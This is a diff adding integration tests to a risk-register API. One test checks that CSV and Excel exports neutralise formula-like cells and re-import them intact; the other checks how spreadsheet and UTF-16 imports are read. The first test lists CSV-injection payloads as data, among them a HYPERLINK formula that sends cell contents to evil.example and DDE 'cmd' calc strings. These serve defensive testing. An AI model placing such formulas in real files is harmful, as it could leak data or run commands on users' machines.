@@ -3,6 +3,9 @@ import { resolve } from 'node:path';
 import type { RiskDto } from '@plexus/contracts';
 import { parseTimescale, todayIso } from '@plexus/domain';
 import { WorkItem, WorkPlan, WorkPlanTheme } from '@plexus/server';
+import { Workbook } from 'exceljs';
+import { parseDelimited } from '@plexus/server';
+import { worksheetXml, xlsxBook } from '../../libs/server/src/lib/table/testing/xlsx-book';
 import { createTestDatabase, HttpClient, newNetwork, startApi, type Fixture, type TestApi, type TestDatabase } from '../support/harness';
 
 const SEED_001 = readFileSync(resolve(__dirname, '../fixtures/risk/seed-001-register.csv'));
@@ -270,5 +273,61 @@ describe('risk register', () => {
       const copied = strip((await client.get(`/api/networks/${target.network.slug}/risks?status=all`)).body);
       expect(copied).toEqual(original);
     }
+  });
+  it('neutralises every formula-like cell in the CSV and Excel exports, and imports them back as written', async () => {
+    const source = await newNetwork(api.db, 'risk-formula');
+    const sm = await new HttpClient(api.url).login(source.users.manager.email);
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click here")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '+1+1', '@SUM(A1:A2)'];
+    for (const description of hostile) {
+      expect((await sm.post('/api/networks/risk-formula/risks', { ...base, description, mitigation: '-escalate', identifiedBy: '@board' })).status).toBe(201);
+    }
+    const get = async (format: 'csv' | 'xlsx') =>
+      Buffer.from(await (await fetch(`${api.url}/api/networks/risk-formula/risks/export?format=${format}`, { headers: { cookie: `plexus_session=${sm.cookie('plexus_session')}` } })).arrayBuffer());
+    const formulaLike = /^[=+\-@\t\r]/;
+
+    const csv = await get('csv');
+    const rows = parseDelimited(csv.toString('utf8').replace(/^\uFEFF/, ''), ',');
+    const description = rows[0].indexOf('Description');
+    expect(rows.slice(1).map((r) => r[description]).sort()).toEqual(hostile.map((h) => `'${h}`).sort());
+    expect(rows.flat().filter((cell) => formulaLike.test(cell))).toEqual([]);
+
+    const xlsx = await get('xlsx');
+    const book = new Workbook();
+    await book.xlsx.load(xlsx as unknown as ArrayBuffer);
+    const cells: string[] = [];
+    book.worksheets[0].eachRow((row) => row.eachCell((cell) => cells.push(String(cell.value))));
+    expect(cells.filter((cell) => formulaLike.test(cell))).toEqual([]);
+    expect(cells).toEqual(expect.arrayContaining([...hostile.map((h) => `'${h}`), "'-escalate", "'@board"]));
+
+    for (const [bytes, name] of [[csv, 'register.csv'], [xlsx, 'register.xlsx']] as const) {
+      const target = await newNetwork(api.db, `risk-formula-${name.split('.')[1]}`);
+      const tm = await new HttpClient(api.url).login(target.users.manager.email);
+      expect((await tm.request('POST', `/api/networks/${target.network.slug}/risks/import`, upload(bytes, name))).status).toBe(201);
+      const copied = (await tm.get(`/api/networks/${target.network.slug}/risks`)).body as Array<{ id: string; description: string }>;
+      expect(copied.map((r) => r.description).sort()).toEqual([...hostile].sort());
+      const one = (await tm.get(`/api/networks/${target.network.slug}/risks/${copied[0].id}`)).body as RiskDto;
+      expect([one.mitigation, one.identifiedBy]).toEqual(['-escalate', '@board']);
+    }
+  });
+
+  it('reads registers the way every import does: the sheet with the table, the header under a title, UTF-16 text', async () => {
+    const target = await newNetwork(api.db, 'risk-reader');
+    const tm = await new HttpClient(api.url).login(target.users.manager.email);
+    const book = xlsxBook({
+      sheets: [
+        { name: 'Read me', xml: worksheetXml([['How to use this register'], ['Score = likelihood × impact']]) },
+        {
+          name: 'Register',
+          xml: worksheetXml([['Spinal network risk register, March 2026'], [], ['Description', 'Date registered', 'Likelihood before mitigation', 'Impact before mitigation'], ['Delayed transfers to the SCC', '2026-01-10', 4, 4]]),
+        },
+      ],
+    });
+    const fromXlsx = await tm.request('POST', '/api/networks/risk-reader/risks/import/preview', upload(Buffer.from(book), 'register.xlsx'));
+    expect(fromXlsx.status).toBe(200);
+    expect(fromXlsx.body).toMatchObject({ ok: true, rows: [{ row: 1, description: 'Delayed transfers to the SCC', problems: [] }] });
+    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Description\tDate registered\tLikelihood before mitigation\tImpact before mitigation\r\nCafé staff cover – rehab\t2026-01-10\t2\t3\r\n', 'utf16le')]);
+    const imported = await tm.request('POST', '/api/networks/risk-reader/risks/import', upload(utf16, 'register.txt', 'text/plain'));
+    expect(imported.status).toBe(201);
+    expect((await tm.get('/api/networks/risk-reader/risks')).body.map((r: { description: string }) => r.description)).toEqual(['Café staff cover – rehab']);
   });
 });
